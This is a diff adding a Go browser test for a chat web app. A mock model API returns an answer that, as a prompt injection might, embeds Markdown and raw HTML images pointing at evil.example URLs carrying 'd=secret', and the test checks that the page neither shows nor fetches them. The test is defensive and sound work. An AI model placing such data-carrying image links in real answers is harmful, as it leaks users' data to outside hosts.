@@ -122,3 +122,68 @@ func waitForText(t *testing.T, ctx context.Context, sel, want string) {
 		time.Sleep(50 * time.Millisecond)
 	}
 }
+
+// imageChatAPI is an OpenAI-compatible API whose answer, as a prompt injection would have
+// it, shows images that carry data to other sites (a Markdown one and a raw <img>).
+func imageChatAPI(t *testing.T) string {
+	t.Helper()
+	const answer = "Here is a chart: ![chart](https://evil.example/leak?d=secret) and " +
+		`<img src="https://evil.example/raw?d=secret"> and [![logo](https://evil.example/logo.png)](https://example.com)`
+	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/event-stream")
+		for _, chunk := range []string{
+			fmt.Sprintf(`{"choices":[{"delta":{"content":%q},"finish_reason":null}]}`, answer),
+			`{"choices":[{"delta":{},"finish_reason":"stop"}]}`,
+			"[DONE]",
+		} {
+			fmt.Fprintf(w, "data: %s\n\n", chunk)
+		}
+	}))
+	t.Cleanup(api.Close)
+	return api.URL + "/api/v1"
+}
+
+// TestBrowserChatLoadsNoRemoteImage shows an answer holding remote images, live and after a
+// reload, and checks that the page has no image and that the browser asked nobody for one.
+func TestBrowserChatLoadsNoRemoteImage(t *testing.T) {
+	sc := scenarios[0]
+	app := appFor(t, sc)
+	t.Setenv("LLM_BASE_URL", imageChatAPI(t))
+	t.Setenv("OPENROUTER_API_KEY", "sk-browser-test")
+	t.Setenv("OPENROUTER_LLM_MODEL", "test/image-model")
+	srv := startServer(t, app, sc)
+	defer srv.stop()
+	requireBuiltAssets(t, srv.base)
+	const email, password = "chat-images@example.com", "a long enough password"
+	srv.manage(t, app, password, "users", "create", email, "--password-stdin")
+	tr := newTour(t, srv.base)
+
+	browserLogin(t, tr.ctx, srv.base+"/chat", email, password, "#chat-form")
+	tr.do("sending", chromedp.SendKeys(chromedp.CSS("#chat-input"), "Show me a chart"), chromedp.Click(chromedp.CSS("#chat-send")))
+	const answer = `#chat-messages [data-role="assistant"][data-status="complete"] .chat-markdown`
+	tr.do("the answer is shown", chromedp.WaitVisible(chromedp.CSS(answer)))
+	noImages := func(when string) {
+		t.Helper()
+		for _, check := range []string{
+			`document.querySelectorAll("#chat-messages img, #chat-messages picture, #chat-messages source").length`,
+			`performance.getEntriesByType("resource").filter(e => e.name.includes("evil.example")).length`,
+		} {
+			n, err := chromedp.Run(tr.ctx, chromedp.Evaluate[int](check))
+			if err != nil || n != 0 {
+				t.Errorf("%s: %s = %d (%v), want 0: a remote image was shown or fetched", when, check, n, err)
+			}
+		}
+	}
+	noImages("as it streamed")
+	location, err := chromedp.Run(tr.ctx, chromedp.Location())
+	if err != nil {
+		t.Fatal(err)
+	}
+	tr.visit(strings.TrimPrefix(location, srv.base), answer) // as the server renders it
+	noImages("after a reload")
+	links, err := chromedp.Run(tr.ctx, chromedp.Evaluate[string](
+		fmt.Sprintf(`[...document.querySelectorAll(%q)].map(a => a.textContent + " " + a.href).join("; ")`, answer+" a")))
+	if err != nil || !strings.Contains(links, "chart https://evil.example/leak") || !strings.Contains(links, "logo https://example.com") {
+		t.Errorf("the answer's links are %q (%v), want the images' alt text linking to them", links, err)
+	}
+}
